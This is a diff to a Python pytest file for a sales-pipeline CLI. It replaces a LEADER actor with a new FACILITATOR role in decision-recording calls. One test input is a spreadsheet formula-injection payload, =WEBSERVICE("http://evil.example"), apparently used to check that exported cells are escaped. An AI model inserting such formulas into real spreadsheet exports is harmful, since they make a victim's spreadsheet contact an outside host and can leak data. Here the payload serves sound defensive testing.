@@ -17,7 +17,6 @@ import openpyxl
 import pandas as pd
 import pytest
 from fixtures_import import (
-    LEADER,
     SF_ACCOUNT_HEADER,
     SF_ACCOUNTS,
     SF_OPPORTUNITY_HEADER,
@@ -26,12 +25,13 @@ from fixtures_import import (
 )
 
 from gtm.cli import main
-from gtm.domain.permissions import ADMIN
+from gtm.domain.permissions import ADMIN, Actor, Role
 from gtm.export.tables import TRIGGERS
 from gtm.services import decisions
 from gtm.services.currency import set_exchange_rates
 from gtm.storage.repository import Store
 
+FACILITATOR = Actor("Sam Okafor", Role.FACILITATOR)
 ROOT = Path(__file__).resolve().parents[1]
 SF_OPPORTUNITIES = [
     ["006A", "Müller Anlagenbau GmbH", "Retrofit", "Prospecting", "$1,234.50", "20", "31/03/2026", "New", "Jörg"],
@@ -200,7 +200,7 @@ def _portfolio_with_risky_text(db: str, capsys: pytest.CaptureFixture[str], tmp_
                                  for i in range(len(RISKY))]))
     assert run(capsys, "import", "accounts", str(accounts), "--database", db)[0] == 0
     assert run(capsys, "import", "opportunities", str(opps), "--database", db)[0] == 0
-    decisions.record_decision(Store(db), LEADER, "R0", "market_bu", "=WEBSERVICE(\"http://evil.example\")")
+    decisions.record_decision(Store(db), FACILITATOR, "R0", "market_bu", "=WEBSERVICE(\"http://evil.example\")")
 
 
 def _starts_unescaped(cell: str) -> bool:
@@ -260,7 +260,7 @@ def test_demo_command_loads_then_reset_replaces_idempotently(db_url: str, capsys
     store = Store(db_url, workspace="demo")
     main_store = Store(db_url)
     assert main_store.is_empty()  # the demo lives in its own workspace
-    decisions.record_decision(store, LEADER, "ACC-0001", "lead_unit", "Pilot.")
+    decisions.record_decision(store, FACILITATOR, "ACC-0001", "lead_unit", "Pilot.")  # any account, not only own
     for _ in range(2):
         code, out, _ = run(capsys, "demo", "--reset", "--database", db_url)
         assert code == 0 and "accounts: 400 added, 0 updated" in out
